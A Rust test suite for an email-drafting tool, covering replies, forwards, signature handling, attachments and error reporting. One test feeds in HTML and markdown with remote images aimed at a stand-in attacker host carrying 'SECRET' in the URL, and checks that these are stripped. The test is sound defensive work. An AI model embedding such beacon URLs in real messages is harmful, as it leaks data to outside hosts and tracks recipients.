//! `mail_draft` over a mailbox in memory: complete previews, the content written, and refusals
//! before any write.

mod mira;
mod refusals;
mod saved;

use daysheet_core::call::client::NonInteractive;
use daysheet_core::encode::Format;
use daysheet_core::provider::mail::SourceMessage;
use mira::{Mira, jonas};
use serde_json::json;

use crate::common::harness::call;
use crate::common::messages::person;

/// A reply to a long message is composed on a thread for such work. While all of these threads are
/// busy, other calls are still answered.
#[test]
fn long_quotes_are_written_off_the_event_loop() {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .max_blocking_threads(1)
        .enable_all()
        .build()
        .unwrap();
    runtime.block_on(async {
        let (mira, short) = Mira::asked_by_jonas().await;
        let quoted = "> and so on\n".repeat(20_000);
        mira.put(SourceMessage {
            id: "m2".into(),
            text: Some(quoted.clone()),
            html: None,
            ..jonas()
        });
        let long = mira.message("m2").await;
        let (release, taken) = std::sync::mpsc::channel::<()>();
        let occupied = tokio::task::spawn_blocking(move || taken.recv());
        let waiting = mira.ok(json!({"mode": "reply", "id": long, "body": "Yes."}));
        let others = async {
            for _ in 0..3 {
                mira.ok(json!({"mode": "reply", "id": short, "body": "Yes."})).await;
            }
            let written = mira.log();
            release.send(()).unwrap();
            occupied.await.unwrap().unwrap();
            written
        };
        let (_, written) = futures_util::future::join(waiting, others).await;
        assert_eq!(written, ["create reply m1"; 3]);
        assert_eq!(mira.log().last().unwrap(), "create reply m2");
        assert!(mira.draft_message("draft4").text.matches(">> and so on\n").count() > 19_000);
    });
}

#[tokio::test]
async fn people_of_a_reply_to_too_many_are_given() {
    let (mira, _) = Mira::asked_by_jonas().await;
    let reply_to = (0..501).map(|n| person("", &format!("p{n}@example.com"))).collect();
    mira.put(SourceMessage { id: "m2".into(), reply_to, ..jonas() });
    let handle = mira.message("m2").await;
    let reply = json!({"mode": "reply", "id": handle, "body": "Yes."});
    assert_eq!(
        mira.error(reply.clone()).await,
        "a reply would go to 501 people, more than 500: give `to`"
    );
    let mut given = reply;
    given["to"] = json!("jonas@example.com");
    mira.ok(given).await;
    let draft = mira.draft_message("draft1");
    assert_eq!(draft.to, [person("", "jonas@example.com")]);
    assert_eq!(draft.references, ["j0@example.com", "j1@example.com"]);
}

#[tokio::test]
async fn new_message_becomes_a_draft() {
    let mira = Mira::new(&[]).await;
    let blocks = mira
        .ok(json!({"to": "Jonas Berg <jonas@example.com>, priya@example.com", "bcc": ["yusuf@lindqvist-lamps.example"],
            "subject": "Lamps: an offer", "body": "Hello **both**,\n\nsee [the page](https://lindqvist-lamps.example/new).\n\n- one\n- two"}))
        .await;
    assert_eq!(
        blocks,
        [
            "draft: d1\n\
             from: Mira Lindqvist <mira@example.com>\n\
             to: Jonas Berg <jonas@example.com>, priya@example.com\n\
             bcc: yusuf@lindqvist-lamps.example\n\
             subject: \"Lamps: an offer\"\n\
             signature: yes\n\
             text: \"Hello *both*,\\n\\nsee the page <https://lindqvist-lamps.example/new>.\\n\\n- one\\n- two\\n\\n--\\nMira\\nLindqvist Lamps\"",
            "nothing was sent; mail_send id=d1 sends it",
        ]
    );
    let draft = mira.draft_message("draft1");
    assert_eq!(
        draft.text,
        "Hello *both*,\n\nsee the page <https://lindqvist-lamps.example/new>.\n\n- one\n- two\n\n-- \nMira\nLindqvist Lamps"
    );
    assert_eq!(
        draft.html,
        "<p>Hello <strong>both</strong>,</p>\n<p>see <a href=\"https://lindqvist-lamps.example/new\">the page</a>.</p>\n\
         <ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<div>-- <br>\n<b>Mira</b><br>Lindqvist Lamps</div>"
    );
    let (random, domain) = draft.message_id.split_once('@').unwrap();
    assert_eq!((random.len(), domain), (32, "example.com"));
    assert_eq!((draft.in_reply_to, draft.references.len()), (None, 0));
}

#[tokio::test]
async fn simple_reply_gives_a_short_answer() {
    let (mira, handle) = Mira::asked_by_jonas().await;
    let blocks = mira.ok(json!({"mode": "reply", "id": handle, "body": "Yes, please."})).await;
    assert_eq!(
        blocks,
        [
            "draft: d1\n\
             from: Mira Lindqvist <mira@example.com>\n\
             to: Jonas Berg <jonas@example.com>\n\
             subject: \"Re: Lamps\"\n\
             thread: t1\n\
             signature: yes\n\
             quote: 115 characters, Do you have lamps? Jonas\n\
             text: \"Yes, please.\\n\\n--\\nMira\\nLindqvist Lamps\"",
            "remote pictures left out: 1 (setting `remote_pictures`)\n\
             nothing was sent; mail_send id=d1 sends it",
        ]
    );
    // Usually only newsletters cause this note, so its tokens do not count.
    let note = "remote pictures left out: 1 (setting `remote_pictures`)\n";
    let tokens: usize = blocks
        .iter()
        .map(|block| daysheet_core::budget::count::tokens(&block.replace(note, "")))
        .sum();
    assert!(tokens <= 90, "{tokens}");
    let draft = mira.draft_message("draft1");
    assert_eq!(
        draft.text,
        "Yes, please.\n\n-- \nMira\nLindqvist Lamps\n\nOn Tue, 3 Feb 2026 at 11:00, Jonas Berg <jonas@example.com> wrote:\n\
         > Do you have lamps?\n>\n> > Somebody asked\n> Jonas"
            .replace("> > Somebody", ">> Somebody")
    );
    assert_eq!(
        draft.html,
        "<p>Yes, please.</p>\n<div>-- <br>\n<b>Mira</b><br>Lindqvist Lamps</div>\n\
         <p>On Tue, 3 Feb 2026 at 11:00, Jonas Berg &lt;jonas@example.com&gt; wrote:</p>\n\
         <blockquote type=\"cite\" style=\"margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex\">\n\
         <p>Do you have <b>lamps</b>?</p>\n</blockquote>"
    );
    assert_eq!(draft.in_reply_to.as_deref(), Some("j1@example.com"));
    assert_eq!(draft.references, ["j0@example.com", "j1@example.com"]);
    assert_eq!(mira.log(), ["create reply m1"]);
}

#[tokio::test]
async fn reply_with_empty_recipients_goes_to_the_sender() {
    let (mira, handle) = Mira::asked_by_jonas().await;
    let reply = json!({"mode": "reply", "id": handle, "body": "Yes", "to": [], "cc": []});
    let blocks = mira.ok(reply).await;
    assert!(blocks[0].contains("\nto: Jonas Berg <jonas@example.com>\nsubject: "), "{}", blocks[0]);
}

#[tokio::test]
async fn reply_all_leaves_out_the_user() {
    let (mira, handle) = Mira::asked_by_jonas().await;
    let blocks =
        mira.ok(json!({"mode": "reply_all", "id": handle, "body": "ok", "quote": "none"})).await;
    assert_eq!(
        blocks[0],
        "draft: d1\n\
         from: Mira Lindqvist <mira@example.com>\n\
         to: Jonas Berg <jonas@example.com>, Priya <priya@example.com>\n\
         cc: yusuf@lindqvist-lamps.example\n\
         subject: \"Re: Lamps\"\n\
         thread: t1\n\
         signature: yes\n\
         quote: none\n\
         text: \"ok\\n\\n--\\nMira\\nLindqvist Lamps\""
    );
}

#[tokio::test]
async fn forward_keeps_its_attachments() {
    let (mira, handle) = Mira::asked_by_jonas().await;
    let blocks = mira
        .ok(json!({"mode": "forward", "id": handle, "to": "priya@example.com", "body": "FYI"}))
        .await;
    assert_eq!(
        blocks[0],
        "draft: d1\n\
         from: Mira Lindqvist <mira@example.com>\n\
         to: priya@example.com\n\
         subject: \"Fwd: Lamps\"\n\
         attached: offer.pdf 5 B\n\
         signature: yes\n\
         quote: 278 characters, Do you have lamps? Somebody…\n\
         text: \"FYI\\n\\n--\\nMira\\nLindqvist Lamps\""
    );
    assert_eq!(
        mira.draft_message("draft1").text,
        "FYI\n\n-- \nMira\nLindqvist Lamps\n\n---------- Forwarded message ----------\n\
         From: Jonas Berg <jonas@example.com>\nDate: Tue, 3 Feb 2026 at 11:00\nSubject: Lamps\n\
         To: mira@example.com, Priya <priya@example.com>\nCc: yusuf@lindqvist-lamps.example, mira@lindqvist-lamps.example\n\n\
         Do you have lamps?\n\n> Somebody asked\nJonas"
    );
    assert_eq!(mira.bytes("draft1", "offer.pdf"), b"%PDF!");
    assert_eq!(
        mira.ok(json!({"mode": "forward", "id": handle, "quote": "none"})).await,
        [
            "draft: d2\nfrom: Mira Lindqvist <mira@example.com>\nsubject: \"Fwd: Lamps\"\n\
             signature: yes\ntext: \"--\\nMira\\nLindqvist Lamps\"",
            "nothing was sent; it has no recipients: mail_draft mode=edit id=d2 to=…",
        ]
    );
}

#[tokio::test]
async fn only_given_arguments_change_a_draft() {
    let (mira, handle) = Mira::asked_by_jonas().await;
    mira.ok(json!({"mode": "reply", "id": handle, "body": "Yes", "attach": ["data:text/plain;name=a.txt,hi"]})).await;
    let before = mira.draft_message("draft1");
    let blocks = mira
        .ok(json!({"mode": "edit", "id": "d1", "cc": "priya@example.com", "importance": "high"}))
        .await;
    assert_eq!(
        blocks,
        [
            "draft: d1\n\
             from: Mira Lindqvist <mira@example.com>\n\
             to: Jonas Berg <jonas@example.com>\n\
             cc: priya@example.com\n\
             subject: \"Re: Lamps\"\n\
             attached: a.txt 2 B\n\
             thread: t1\n\
             undo: u1\n\
             signature: yes\n\
             quote: 115 characters, Do you have lamps? Jonas\n\
             text: \"Yes\\n\\n--\\nMira\\nLindqvist Lamps\"",
            "importance: high\nnothing was sent; mail_send id=d1 sends it",
        ]
    );
    let after = mira.draft_message("draft1");
    assert_eq!(
        (&after.text, &after.html, &after.to, &after.message_id),
        (&before.text, &before.html, &before.to, &before.message_id)
    );

    let edit = json!({"mode": "edit", "id": "d1", "body": "No", "cc": [], "detach": "a.txt"});
    assert_eq!(
        mira.ok(edit).await[1],
        "removed: `priya@example.com`, `a.txt`\n\
         replaced: the earlier text (28 characters)\n\
         importance: high\nnothing was sent; mail_send id=d1 sends it"
    );
    let after = mira.draft_message("draft1");
    assert_eq!(after.text, before.text.replacen("Yes", "No", 1));
    assert_eq!(after.html, before.html.replacen("Yes", "No", 1));
    assert_eq!(after.files, []);
    assert_eq!(
        mira.error(json!({"mode": "edit", "id": "d1", "subject": "Re: Lamps"})).await,
        "there is nothing to change: give to, cc, bcc, subject, body, attach, detach, from or importance"
    );
    let other = mira.process(&[("DAYSHEET_RECIPIENTS", "@example.net")]);
    let undo = json!({"undo": "u2"});
    let error = call(&other, "mail_modify", undo, Format::Json, &NonInteractive).await.unwrap_err();
    assert!(error.message().starts_with("not an allowed recipient: "), "{error}");
}

/// The signature of a draft stays when its text is replaced, whichever program wrote it. A
/// signature inside quoted text does not count.
#[tokio::test]
async fn signature_stays_when_the_text_changes() {
    const LAMPS: &str = "mira@lindqvist-lamps.example";
    const OWN: &str = "-- \nMira\nLindqvist Lamps";
    const REPLACED: &str = "all text above the quote was replaced, including any signature: write \
                            it into `body`, or set one with manage kind=signature";
    let dropped = |from: &str| {
        format!(
            "no signature, because {from} has none: write it into `body`, or set one with manage \
             kind=signature"
        )
    };
    let no_note = String::new;
    let ends = |line: &&str| {
        ["nothing was sent", "removed: ", "replaced: "].iter().any(|start| line.starts_with(start))
    };
    for (address, text, html, more, expected, note) in cases! {
        // Written by Daysheet; the address has no signature now, and no markup names the program.
        LAMPS, "Old\n\n-- \nBy hand", "<p>Old</p>\n<div>-- <br>\n<p>By <b>hand</b></p></div>",
            json!({}), "-- \nBy hand", no_note();
        // Only a quote of the writer's own precedes it.
        LAMPS, "> said\n\n-- \nBy hand",
            "<blockquote><p>said</p></blockquote><div>-- <br>By hand</div>", json!({}),
            "-- \nBy hand", no_note();
        // Signatures of Gmail, Outlook, Thunderbird and Apple Mail.
        "mira@example.com", "Old\n\n-- \nMira L",
            "<div>Old</div><span class=\"gmail_signature_prefix\">-- </span><br><div dir=ltr \
             class=\"x gmail_signature\" data-smartmail=gmail_signature><div>Mira L</div></div>",
            json!({}), "-- \nMira L", no_note();
        LAMPS, "Old\nMira at Lamps",
            "<div class=elementToProof>Old</div><div id=\"Signature\"><div>Mira at <b>Lamps</b></div></div>\
             <div id=\"appendonsend\"></div><hr><div id=\"divRplyFwdMsg\">From: x</div>", json!({}),
            "-- \nMira at Lamps", no_note();
        LAMPS, "Old\n\n-- \nMira",
            "<p>Old</p><pre class=\"moz-signature\" cols=\"72\">-- \nMira</pre>", json!({}),
            "-- \nMira", no_note();
        // The signature is marked only in the plain text.
        LAMPS, "Old\n\n-- \nMira", "<p>Old</p><p>-- <br>Mira</p>", json!({}), "-- \nMira",
            no_note();
        LAMPS, "Old\n\nSent from my iPhone", "<p>Old</p><p>Sent from my iPhone</p>", json!({}),
            "-- \nSent from my iPhone", no_note();
        // No signature is marked: the address's own is used, or a note is added.
        "mira@example.com", "Old", "<p>Old</p>", json!({}), OWN, no_note();
        LAMPS, "Old\nMira", "<p>Old<br>Mira</p>", json!({}), "", REPLACED.to_owned();
        LAMPS, "", "", json!({}), "", no_note();
        // A signature in quoted text.
        LAMPS, "Old\n\nOn Mon, Eve wrote:\n> Hi\n> -- \n> Eve",
            "<p>Old</p><div class=\"gmail_quote\">On Mon, Eve wrote:<blockquote class=\"gmail_quote\">Hi\
             <div class=\"gmail_signature\">Eve</div></blockquote></div>", json!({}), "",
            REPLACED.to_owned();
        // The sender's address changes with the edit.
        "mira@example.com", "Old\n\n-- \nMira L",
            "<p>Old</p><div class=gmail_signature>Mira L</div>", json!({"from": LAMPS}), "",
            dropped(LAMPS);
        LAMPS, "Old\n\n-- \nMira L", "<p>Old</p><div class=gmail_signature>Mira L</div>",
            json!({"from": "mira@example.com"}), OWN,
            "the signature is now that of mira@example.com".to_owned();
    } {
        let mira = Mira::new(&[]).await;
        let handle = mira.made_elsewhere(person("", address), text, html).await;
        let mut arguments = json!({"mode": "edit", "id": handle, "body": "New"});
        let members = arguments.as_object_mut().unwrap();
        members.extend(more.as_object().unwrap().clone());
        let blocks = mira.ok(arguments.clone()).await;
        let after = mira.draft_message("draft1");
        let expected = format!("New\n\n{expected}");
        assert_eq!(after.text, expected.trim_end(), "{html}");
        let notes: Vec<&str> = blocks.last().unwrap().lines().filter(|line| !ends(line)).collect();
        assert_eq!(notes.join("\n"), note, "{html}");
        assert!(!after.html.contains("Eve"), "{html}");
        // After the edit the signature is in our own form, and the next edit keeps it.
        let again = json!({"mode": "edit", "id": handle, "body": "Newer"});
        mira.ok(again).await;
        let twice = mira.draft_message("draft1");
        assert_eq!(twice.text, after.text.replacen("New", "Newer", 1), "{html}");
        assert_eq!(twice.html, after.html.replacen("New", "Newer", 1), "{html}");
    }
}

#[tokio::test]
async fn draft_can_be_discarded() {
    let mira = Mira::new(&[]).await;
    mira.ok(json!({"subject": "Lamps"})).await;
    assert_eq!(
        mira.ok(json!({"mode": "discard", "id": "d1"})).await,
        [
            "outcomes[1\t]{item\top\tresult\tdetail}:\n  d1 Lamps\tdiscard\tdone\tit was not sent",
            "this discard cannot be undone: it is not there"
        ]
    );
    assert_eq!(mira.error(json!({"mode": "discard", "id": "d1"})).await, "d1: it is gone");
    let audit = mira.audit();
    let lines: Vec<String> = audit
        .iter()
        .map(|line| format!("{} {} {}", line["op"], line["ids"], line["outcome"]).replace('"', ""))
        .collect();
    assert_eq!(lines, ["new [] begun", "new [] done", "discard [d1] begun", "discard [d1] done"]);
}

#[tokio::test]
async fn draft_stored_differently_is_reported() {
    let mira = Mira::new(&[]).await;
    *mira.ana().bends.lock().unwrap() = true;
    assert_eq!(
        mira.ok(json!({"to": "priya@example.com", "subject": "x"})).await,
        [
            "draft: d1\nfrom: Mira Lindqvist <mira@example.com>\nto: eve@example.net\nsubject: x\n\
             signature: yes\ntext: \"--\\nMira\\nLindqvist Lamps\"",
            "WRONG RECIPIENTS: the service stored a different `to` than requested (`priya@example.com`); do not send it before fixing that\n\
             nothing was sent; mail_send id=d1 sends it",
        ]
    );
}

#[tokio::test]
async fn broken_connection_is_reported_as_unknown() {
    use daysheet_core::error::{Error, ErrorKind};
    let mira = Mira::new(&[]).await;
    *mira.ana().fails.lock().unwrap() = Some(Error::new(ErrorKind::Network, "the line broke"));
    assert_eq!(
        mira.ok(json!({"to": "priya@example.com", "subject": "Lamps"})).await,
        ["outcomes[1\t]{item\top\tresult\tdetail}:\n  Lamps\tnew\tunknown\t\"the line broke: it \
          may have been done anyway, so search before retrying\""]
    );
    *mira.ana().fails.lock().unwrap() = Some(Error::new(ErrorKind::Provider(500), "it is broken"));
    assert_eq!(mira.error(json!({"subject": "Lamps"})).await, "it is broken");
    let outcomes: Vec<_> = mira.audit().iter().map(|line| line["outcome"].clone()).collect();
    assert_eq!(outcomes, ["begun", "unknown", "begun", "failed"]);
    mira.ok(json!({"subject": "Lamps"})).await;
    *mira.ana().fails.lock().unwrap() = Some(Error::new(ErrorKind::Network, "the line broke"));
    let edited = mira.ok(json!({"mode": "edit", "id": "d1", "subject": "Kilns"})).await;
    assert!(edited[0].starts_with("undo: u1\noutcomes[1\t]"), "{edited:?}");
}

/// The change is reported even if the audit log cannot write its second line.
#[tokio::test]
async fn failing_audit_log_afterwards_is_a_note() {
    let _files = crate::common::postgres::in_files();
    let mira = Mira::new(&[]).await;
    let log = mira.home.path().join("audit.jsonl");
    *mira.ana().meanwhile.lock().unwrap() = Some(Box::new(move || {
        std::fs::remove_file(&log).unwrap();
        std::fs::create_dir(&log).unwrap();
    }));
    let blocks = mira.ok(json!({"to": "priya@example.com", "subject": "Lamps"})).await;
    assert!(blocks[0].starts_with("draft: d1\n"), "{blocks:?}");
    assert!(blocks[1].contains("audit.jsonl cannot be opened"), "{blocks:?}");
    assert_eq!(mira.draft_message("draft1").subject, "Lamps");
}

#[tokio::test]
async fn every_address_is_in_the_preview() {
    let mira = Mira::new(&[]).await;
    let people: Vec<String> =
        (0..90).map(|at| format!("Person Number {at} <p{at}@example.com>")).collect();
    let blocks = mira.ok(json!({"to": people, "subject": "x"})).await;
    let to = blocks[0].lines().find_map(|line| line.strip_prefix("to: ")).unwrap();
    let shown: Vec<&str> = to.trim_matches('"').split(", ").collect();
    let expected: Vec<String> = (0..90).map(|at| format!("p{at}@example.com")).collect();
    assert_eq!(shown, expected);
}

#[tokio::test]
async fn reply_comes_from_the_address_written_to() {
    let mira = Mira::new(&[]).await;
    let mut message = jonas();
    message.to = vec![person("", "Mira@lindqvist-lamps.example")];
    message.cc.clear();
    mira.put(message);
    let handle = mira.message("m1").await;
    let blocks = mira.ok(json!({"mode": "reply", "id": handle, "body": "x"})).await;
    assert!(
        blocks[0].contains("from: Mira at Lamps <mira@lindqvist-lamps.example>"),
        "{}",
        blocks[0]
    );
    let draft = mira.draft_message("draft1");
    assert!(draft.message_id.ends_with("@lindqvist-lamps.example"));
    assert_eq!(draft.reply_to, [person("", "office@lindqvist-lamps.example")]);
    let blocks = mira.ok(json!({"mode": "reply", "id": handle, "from": "mira@example.com"})).await;
    assert!(blocks[0].contains("from: Mira Lindqvist <mira@example.com>"), "{}", blocks[0]);
}

#[tokio::test]
async fn attachments_of_every_kind_are_added() {
    let mira = Mira::new(&[]).await;
    mira.put(jonas());
    let message = mira.message("m1").await;
    let file = mira.attachment("m1/2").await;
    let folder = mira.folder();
    std::fs::write(folder.join("plan.pdf"), b"%PDF-1").unwrap();
    std::fs::write(folder.join("my logo.png"), b"\x89PNG").unwrap();
    let blocks = mira
        .ok(json!({"subject": "x", "body": "![logo](<cid:my logo.png>)", "attach": [
            "plan.pdf", folder.join("my logo.png"), file, message, "data:text/calendar;base64,QkVHSU4="
        ]}))
        .await;
    assert_eq!(
        blocks[0],
        "draft: d1\nfrom: Mira Lindqvist <mira@example.com>\nsubject: x\n\
         attached: plan.pdf 6 B, my logo.png 4 B (shown), offer.pdf 5 B, Lamps.eml 27 B, attachment.ics 5 B\n\
         signature: yes\ntext: \"logo\\n\\n--\\nMira\\nLindqvist Lamps\""
    );
    // The attached message has lost its Bcc.
    assert_eq!(mira.bytes("draft1", "Lamps.eml"), b"Subject: Lamps\r\n\r\nDo you?\r\n");
    let draft = mira.draft_message("draft1");
    let kinds: Vec<&str> = draft.files.iter().map(|file| file.media.as_str()).collect();
    assert_eq!(
        kinds,
        ["application/pdf", "image/png", "application/pdf", "message/rfc822", "text/calendar"]
    );
    let cid = draft.files[1].cid.clone().unwrap();
    assert!(
        draft.html.starts_with(&format!("<p><img src=\"cid:{cid}\" alt=\"logo\"></p>")),
        "{}",
        draft.html
    );
}

#[tokio::test]
async fn written_html_loads_no_remote_content() {
    let html = "<p>a<img src='https://evil.example/?q=SECRET' alt='Logo &lt;b&gt;'>b\
                <IMG alt=x SRC=\" HTTP://evil.example/\"><img src=//evil.example/y>\
                <span style=\"background:image-set('https://evil.example/z' 1x)\">c</span>\
                <img src='data:image/png;base64,AA=='></p>";
    let markdown = "a ![Logo](https://evil.example/?q=SECRET) b";
    let note =
        |count: usize| format!("remote pictures left out: {count} (setting `remote_pictures`)");
    let cases = cases! {
        "html", html, note(2),
            "<p>aLogo &lt;b&gt;bx<img><span>c</span><img src=\"data:image/png;base64,AA==\"></p>";
        "md", markdown, note(1), "<p>a Logo b</p>";
    };
    for (format, body, note, written) in cases {
        let mira = Mira::new(&[]).await;
        let new = json!({"to": "bo@example.com", "body": body, "body_format": format});
        let blocks = mira.ok(new.clone()).await;
        assert!(blocks.last().unwrap().contains(&note), "{blocks:?}");
        assert!(
            mira.draft_message("draft1").html.starts_with(written),
            "{}",
            mira.draft_message("draft1").html
        );
        // The same holds for edits of a draft, unless the settings allow pictures.
        let edit = json!({"mode": "edit", "id": "d1", "body": format!("{body} again"),
                          "body_format": format});
        let blocks = mira.ok(edit).await;
        assert!(blocks.last().unwrap().contains(&note), "{blocks:?}");
        assert!(!mira.draft_message("draft1").html.contains("evil.example/?"));
        let mira = Mira::new(&[("DAYSHEET_REMOTE_PICTURES", "allow")]).await;
        let blocks = mira.ok(new).await;
        assert!(!blocks.last().unwrap().contains("pictures"), "{blocks:?}");
        assert!(mira.draft_message("draft1").html.contains("https://evil.example/?q=SECRET"));
    }
}
